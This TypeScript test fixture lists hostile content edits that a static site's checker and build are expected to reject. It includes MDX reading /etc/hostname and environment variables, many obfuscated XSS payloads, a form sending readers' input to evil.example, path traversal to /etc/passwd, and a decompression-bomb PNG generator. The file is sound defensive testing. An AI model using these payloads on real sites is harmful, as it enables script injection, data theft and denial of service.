/**
 * The hostile corpus: content as someone with a stolen staff account would write it, to run code on
 * the build machine or in readers' browsers, read the machine's files, or knock the build over. Each
 * case must be refused by `npm run check` and by the build, naming the file, with dist/ untouched.
 * Longer than our files usually are because it is a table: one entry per attack, read top to bottom.
 */
import { deflateSync, crc32 } from 'node:zlib';
import { appendFileSync, copyFileSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { MalformedCase } from './cases';

const STORY_DIR = 'stories/2025/dongzhi-jiaozi';
const STORY = `${STORY_DIR}/index.md`;
const MDX = `${STORY_DIR}/index.mdx`;
const TEAM = 'teams/qingnian.md';
const NOTICE = 'announcements/2026/xueleifeng-huodongyue-tongzhi.md';

const append = (text: string) => (dir: string) => appendFileSync(path.join(dir, STORY), `\n${text}\n`);
const replaceIn = (file: string, from: string | RegExp, to: string) => (dir: string) => {
  const full = path.join(dir, file);
  const before = readFileSync(full, 'utf-8');
  const after = before.replace(from, to);
  if (after === before) throw new Error(`case did not apply: ${file} ${String(from)}`);
  writeFileSync(full, after);
};
/** The story rewritten as MDX, its body replaced by `body`: what an attacker would upload. */
const asMdx = (body: string) => (dir: string) => {
  const source = readFileSync(path.join(dir, STORY), 'utf-8');
  const frontMatter = /^---\n[\s\S]*?\n---\n/.exec(source)![0];
  rmSync(path.join(dir, STORY));
  writeFileSync(path.join(dir, MDX), `${frontMatter}\n${body}\n`);
};
const moveStoryTo = (folder: string) => (dir: string) =>
  renameSync(path.join(dir, STORY_DIR), path.join(dir, 'stories/2025', folder));

/** A PNG whose header claims 30,000 × 30,000 pixels (2.7 GB decoded), in 60 bytes. */
function decompressionBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(0))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1000"><script>alert(1)</script></svg>';
const UNSAFE = '不安全';

export const HOSTILE: MalformedCase[] = [
  {
    name: 'MDX 导入 node:fs，把构建机器的主机名印到页面上',
    family: 'MDX',
    apply: asMdx("import { readFileSync } from 'node:fs';\n\n主机：{readFileSync('/etc/hostname', 'utf8')}"),
    file: MDX,
    says: '网站不接受 MDX 文件',
  },
  {
    name: 'MDX 导出环境变量',
    family: 'MDX',
    apply: asMdx('export const secrets = process.env;\n\n{JSON.stringify(secrets)}'),
    file: MDX,
    says: '网站不接受 MDX 文件',
  },
  { name: 'MDX 表达式', family: 'MDX', apply: asMdx('{process.env.HOME}'), file: MDX, says: '网站不接受 MDX 文件' },
  {
    name: '大写的 SCRIPT 标签',
    family: '正文里的 HTML',
    apply: append('<SCRIPT>alert(1)</SCRIPT>'),
    file: STORY,
    field: '正文',
    says: '<script>',
  },
  {
    name: 'object 标签',
    family: '正文里的 HTML',
    apply: append('<object data="https://evil.example/x.swf"></object>'),
    file: STORY,
    field: '正文',
    says: '<object>',
  },
  {
    name: 'embed 标签',
    family: '正文里的 HTML',
    apply: append('<embed src="https://evil.example/x.swf">'),
    file: STORY,
    field: '正文',
    says: '<embed>',
  },
  {
    name: 'form 表单把读者的输入发到外站',
    family: '正文里的 HTML',
    apply: append('<form action="https://evil.example/steal"><input name="phone"></form>'),
    file: STORY,
    field: '正文',
    says: '<form>',
  },
  {
    name: 'meta refresh 把读者带到外站',
    family: '正文里的 HTML',
    apply: append('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    file: STORY,
    field: '正文',
    says: '<meta>',
  },
  {
    name: 'base 标签改写全部链接',
    family: '正文里的 HTML',
    apply: append('<base href="https://evil.example/">'),
    file: STORY,
    field: '正文',
    says: '<base>',
  },
  {
    name: 'style 标签隐藏页面',
    family: '正文里的 HTML',
    apply: append('<style>body{display:none}</style>'),
    file: STORY,
    field: '正文',
    says: '<style>',
  },
  {
    name: 'link 标签加载外站样式',
    family: '正文里的 HTML',
    apply: append('<link rel="stylesheet" href="https://evil.example/x.css">'),
    file: STORY,
    field: '正文',
    says: '<link>',
  },
  {
    name: 'svg 的 onload',
    family: '正文里的 HTML',
    apply: append('<svg onload="alert(1)"></svg>'),
    file: STORY,
    field: '正文',
    says: '<svg>',
  },
  {
    name: '大小写混写的事件属性',
    family: '正文里的 HTML',
    apply: append('<b OnMouseOver="alert(1)">粗体</b>'),
    file: STORY,
    field: '正文',
    says: 'on… 事件属性',
  },
  {
    name: '全大写的事件属性',
    family: '正文里的 HTML',
    apply: append('<details open ONTOGGLE="alert(1)"><summary>展开</summary>内容</details>'),
    file: STORY,
    field: '正文',
    says: 'on… 事件属性',
  },
  {
    name: 'style 里藏 javascript 地址',
    family: '正文里的 HTML',
    apply: append('<p style="background:url(javascript:alert(1))">一段话</p>'),
    file: STORY,
    field: '正文',
    says: 'style 属性',
  },
  {
    name: 'Markdown 链接 javascript:',
    family: '不安全的地址',
    apply: append('[点我](javascript:alert(1))'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: '大写的 JAVASCRIPT:',
    family: '不安全的地址',
    apply: append('[点我](JAVASCRIPT:alert(1))'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: '用字符引用拼出 javascript:',
    family: '不安全的地址',
    apply: append('[点我](jav&#x61;script:alert(1))'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: 'HTML 链接的协议里夹着 Tab',
    family: '不安全的地址',
    apply: append('<a href="java&#09;script:alert(1)">点我</a>'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: 'vbscript: 链接',
    family: '不安全的地址',
    apply: append('[点我](vbscript:msgbox(1))'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: 'data: 链接',
    family: '不安全的地址',
    apply: append('[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: '引用式链接定义 javascript:',
    family: '不安全的地址',
    apply: append('[点我][1]\n\n[1]: javascript:alert(1)'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: 'data: 图片',
    family: '不安全的地址',
    apply: append('![图](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)'),
    file: STORY,
    field: '正文',
    says: UNSAFE,
  },
  {
    name: '正文 HTML 图片带 onerror',
    family: '正文里的 HTML',
    apply: append('<img src="x" onerror="alert(1)">'),
    file: STORY,
    field: '正文',
    says: '<img>',
  },
  {
    name: '队伍报名链接 javascript:',
    family: '不安全的地址',
    apply: replaceIn(TEAM, 'signup: https://chinavolunteer.mca.gov.cn/', 'signup: javascript:alert(1)'),
    file: TEAM,
    field: 'signup',
    says: '只能以 https://',
  },
  {
    name: '队伍报名链接用字符引用伪装',
    family: '不安全的地址',
    apply: replaceIn(TEAM, 'signup: https://chinavolunteer.mca.gov.cn/', 'signup: "jav&#x61;script:alert(1)"'),
    file: TEAM,
    field: 'signup',
    says: '只能以 https://',
  },
  {
    name: '队伍报名链接 vbscript:',
    family: '不安全的地址',
    apply: replaceIn(TEAM, 'signup: https://chinavolunteer.mca.gov.cn/', 'signup: "VBScript:msgbox(1)"'),
    file: TEAM,
    field: 'signup',
    says: '只能以 https://',
  },
  {
    name: '队伍报名链接 data:',
    family: '不安全的地址',
    apply: replaceIn(
      TEAM,
      'signup: https://chinavolunteer.mca.gov.cn/',
      'signup: "data:text/html,<script>alert(1)</script>"',
    ),
    file: TEAM,
    field: 'signup',
    says: '只能以 https://',
  },
  {
    name: '附件地址 javascript:',
    family: '不安全的地址',
    apply: replaceIn(NOTICE, 'url: /files/2026/xueleifeng-haibao.jpg', 'url: "javascript:alert(1)"'),
    file: NOTICE,
    field: 'attachments[0].url',
    says: '附件地址应以 /files/ 开头',
  },
  {
    name: '附件路径爬出 content/files',
    family: '不安全的地址',
    apply: replaceIn(NOTICE, 'url: /files/2026/xueleifeng-haibao.jpg', 'url: /files/../../etc/passwd'),
    file: NOTICE,
    field: 'attachments[0].url',
    says: '不能含有“..”',
  },
  {
    name: '封面路径指向 /etc/passwd',
    family: '图片和路径',
    apply: replaceIn(STORY, 'image: ./cover.jpg', 'image: ../../../../../etc/passwd'),
    file: STORY,
    field: 'cover.image',
    says: '不在这个文件旁边',
  },
  {
    name: '正文插图路径爬出文件夹',
    family: '图片和路径',
    apply: append('![图](../../../../../etc/passwd)'),
    file: STORY,
    field: '正文',
    says: '不在这篇文章的文件夹里',
  },
  {
    name: '封面是藏着脚本的 SVG',
    family: '图片和路径',
    apply: (d) => {
      writeFileSync(path.join(d, STORY_DIR, 'cover.svg'), SVG_WITH_SCRIPT);
      replaceIn(STORY, 'image: ./cover.jpg', 'image: ./cover.svg')(d);
    },
    file: STORY,
    field: 'cover.image',
    says: 'SVG 图片里可以藏程序',
  },
  {
    name: '正文插图是藏着脚本的 SVG',
    family: '图片和路径',
    apply: (d) => {
      writeFileSync(path.join(d, STORY_DIR, 'tu.svg'), SVG_WITH_SCRIPT);
      append('![图表](./tu.svg)')(d);
    },
    file: STORY,
    field: '正文',
    says: 'SVG 图片里可以藏程序',
  },
  {
    name: '号称 30000×30000 像素的图片（解压炸弹）',
    family: '图片和路径',
    apply: (d) => {
      writeFileSync(path.join(d, STORY_DIR, 'bomb.png'), decompressionBomb());
      replaceIn(STORY, 'image: ./cover.jpg', 'image: ./bomb.png')(d);
    },
    file: STORY,
    field: 'cover.image',
    says: '30000×30000 像素',
  },
  {
    name: '50 MB 的正文',
    family: '大小和文件夹名',
    apply: (d) => appendFileSync(path.join(d, STORY), Buffer.alloc(50 * 1024 * 1024, 'a')),
    file: STORY,
    says: '超过了 512 KB 的上限',
  },
  {
    name: '文件夹名含 ..',
    family: '大小和文件夹名',
    apply: moveStoryTo('dong..zhi'),
    file: 'stories/2025/dong..zhi/index.md',
    says: '只能用小写字母、数字和 -',
  },
  {
    name: '文件夹名含空格',
    family: '大小和文件夹名',
    apply: moveStoryTo('dong zhi'),
    file: 'stories/2025/dong zhi/index.md',
    says: '只能用小写字母、数字和 -',
  },
  {
    name: '文件夹名含控制字符',
    family: '大小和文件夹名',
    apply: moveStoryTo('dong\u0001zhi'),
    file: 'stories/2025/dong\u0001zhi/index.md',
    says: '只能用小写字母、数字和 -',
  },
  {
    name: '网站不认识的版块',
    family: '正文里的 HTML',
    apply: append(':::script{src="x"}\nalert(1)\n:::'),
    file: STORY,
    field: '正文',
    says: '不是网站认识的版块',
  },
  {
    name: '版块带事件属性',
    family: '正文里的 HTML',
    apply: (d) => {
      copyFileSync(path.join(d, STORY_DIR, 'cover.jpg'), path.join(d, STORY_DIR, 'zu.jpg'));
      append(':::gallery{onclick="alert(1)"}\n\n![组图](./zu.jpg)\n\n:::')(d);
    },
    file: STORY,
    field: '正文',
    says: '不能带“onclick”',
  },
];
